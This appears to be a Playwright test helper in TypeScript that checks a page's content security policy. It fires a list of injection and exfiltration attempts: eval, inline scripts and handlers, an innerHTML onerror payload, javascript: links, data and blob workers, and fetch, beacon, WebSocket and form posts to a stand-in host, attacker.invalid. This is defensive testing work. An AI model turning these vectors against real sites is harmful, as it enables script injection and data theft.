import type { Page } from '@playwright/test'

/** Not among TypeScript's types of a page. */
declare const trustedTypes: { createPolicy(name: string, rules: object): unknown }

/** What an attack led to, seen from inside the page. */
export interface AttackResult {
  readonly name: string
  /** Directives of the `securitypolicyviolation` events that it caused. */
  readonly violations: readonly string[]
  /** Its code ran, or its resource came. */
  readonly succeeded: boolean
}

/**
 * Tries everything that a content security policy should stop, one after the other, in the page itself.
 * One long function, because Playwright sends its text into the page and nothing around it.
 * Each attempt starts from a timer: code that the debugger calls directly may use `eval` in spite of the policy.
 */
export function attackFromInside(page: Page): Promise<AttackResult[]> {
  return page.evaluate(async () => {
    const state = { ran: false }
    Object.assign(window, { attackRan: () => (state.ran = true) })
    const attack = 'attackRan()'
    const foreign = 'https://attacker.invalid'
    const add = <Tag extends keyof HTMLElementTagNameMap>(
      tag: Tag,
      change: (element: HTMLElementTagNameMap[Tag]) => void,
    ) => {
      const element = document.createElement(tag)
      change(element)
      document.body.append(element)
      return element
    }
    const blob = (): string => URL.createObjectURL(new Blob([attack], { type: 'text/javascript' }))
    const attacks: Record<string, () => unknown> = {
      eval: () => (0, eval)(attack),
      'new Function': () => new Function(attack)(),
      'timer with text': () => setTimeout(attack),
      'inline script': () => add('script', (script) => script.append(attack)),
      'inline script through text': () => add('script', (script) => (script.text = attack)),
      'inline handler': () => add('button', (button) => button.setAttribute('onclick', attack)).click(),
      'inner HTML': () => add('div', (div) => (div.innerHTML = `<img src="x" onerror="${attack}">`)),
      'document.write': () => document.write(`<script>${attack}</script>`),
      'own policy': () => trustedTypes.createPolicy('attacker', { createHTML: (text: string) => text }),
      'remote script': () => add('script', (script) => (script.src = `${foreign}/x.js`)),
      'remote module': () => import(/* @vite-ignore */ `${foreign}/x.js`),
      'data script': () => add('script', (script) => script.setAttribute('src', `data:text/javascript,${attack}`)),
      'remote image': () => add('img', (img) => (img.src = `${foreign}/x.png`)),
      'remote font': () => new FontFace('attack', `url(${foreign}/x.woff2)`).load(),
      'remote media': () => add('video', (video) => (video.src = `${foreign}/x.mp4`)),
      'remote style sheet': () =>
        add('link', (link) => Object.assign(link, { rel: 'stylesheet', href: `${foreign}/x.css` })),
      'inline style': () => add('style', (style) => style.append('body { --attack: 1 }')),
      'style attribute': () => add('p', (p) => p.setAttribute('style', '--attack: 1')),
      fetch: () => fetch(`${foreign}/x`),
      XMLHttpRequest: () => {
        const request = new XMLHttpRequest()
        request.open('GET', `${foreign}/x`)
        request.send()
      },
      beacon: () => navigator.sendBeacon(`${foreign}/x`, 'x'),
      WebSocket: () => new WebSocket('wss://attacker.invalid/'),
      EventSource: () => new EventSource(`${foreign}/x`),
      'blob worker': () => new Worker(blob()),
      'data worker': () => new Worker(`data:text/javascript,${attack}`),
      frame: () => add('iframe', (frame) => (frame.src = `${foreign}/`)),
      'data frame': () => add('iframe', (frame) => (frame.src = 'data:text/html,x')),
      object: () => add('object', (object) => (object.data = `${foreign}/x`)),
      base: () => document.head.append(Object.assign(document.createElement('base'), { href: `${foreign}/` })),
      form: () => add('form', (form) => Object.assign(form, { action: `${foreign}/`, method: 'post' })).submit(),
      'javascript: address': () => add('a', (a) => (a.href = `javascript:${attack}`)).click(),
    }
    const run = async (name: string): Promise<AttackResult> => {
      const violations: string[] = []
      const note = (event: SecurityPolicyViolationEvent): void => void violations.push(event.effectiveDirective)
      document.addEventListener('securitypolicyviolation', note)
      state.ran = false
      let loaded = false
      const seen = (event: Event): void => void (loaded ||= event.target !== window && event.target !== document)
      window.addEventListener('load', seen, true)
      await new Promise<void>((done) => {
        setTimeout(() => {
          // A refusal is an exception, a rejection or an event: all are welcome, the violation is what counts.
          void Promise.resolve()
            .then(attacks[name])
            .catch(() => {})
            .finally(done)
        })
      })
      for (let wait = 0; wait < 50 && violations.length === 0; wait++) await new Promise((done) => setTimeout(done, 20))
      document.removeEventListener('securitypolicyviolation', note)
      window.removeEventListener('load', seen, true)
      const moved = document.baseURI !== location.href
      return {
        name,
        violations: [...new Set(violations)],
        succeeded: state.ran || moved || (loaded && violations.length === 0),
      }
    }
    const results: AttackResult[] = []
    for (const name of Object.keys(attacks)) results.push(await run(name))
    return results
  })
}
